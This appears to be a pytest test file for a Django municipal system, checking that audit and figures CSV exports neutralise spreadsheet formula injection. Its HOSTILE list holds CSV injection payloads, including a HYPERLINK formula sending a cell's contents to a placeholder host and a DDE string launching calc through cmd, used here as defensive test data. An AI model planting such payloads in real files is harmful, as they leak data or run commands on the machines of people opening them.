"""Exports are safe to open: a purpose typed as a formula stays text in the spreadsheet.

Found by an attack: a user typed `=HYPERLINK("http://...")` as the purpose of a CPR reveal,
and the audit CSV handed it to Excel as a formula.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from fremdrift.audit.models import Action
from fremdrift.audit.services import audit_record
from fremdrift.core.csv_cells import spreadsheet_safe
from fremdrift.results.api import rows_as_csv
from tests.conftest import login

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1;"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_could_start_a_formula_is_written_as_text(text):
    assert spreadsheet_safe(text) == "'" + text
    assert spreadsheet_safe("Opslag på borgerens side") == "Opslag på borgerens side"
    assert spreadsheet_safe(-3) == -3  # a number stays a number


def test_the_audit_export_neutralises_a_purpose_typed_as_a_formula(
    odense_manager, odense_caseworker, odense_citizen
):
    for purpose in HOSTILE:
        audit_record(
            actor=odense_caseworker,
            action=Action.REVEAL_CPR,
            purpose=purpose,
            municipality=odense_citizen.municipality,
            citizen=odense_citizen,
        )
    response = login(odense_manager).get(reverse("audit:export", kwargs={"pk": odense_citizen.pk}))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    purposes = [row[4] for row in csv.reader(io.StringIO(text, newline=""), delimiter=";")][1:]
    assert sorted(purposes[1:]) == sorted("'" + purpose for purpose in HOSTILE)
    assert not any(purpose.startswith(("=", "+", "-", "@", "\t", "\r")) for purpose in purposes)


def test_the_figures_csv_neutralises_text_and_keeps_numbers():
    result = {
        "values": [
            {"municipality": "=1+1", "name": "M1", "numerator": -2, "value": 0.5},
        ]
    }
    rows = list(csv.reader(io.StringIO(rows_as_csv(result)), delimiter=";"))
    assert rows[1][0] == "'=1+1"
    assert rows[1][4] == "-2"
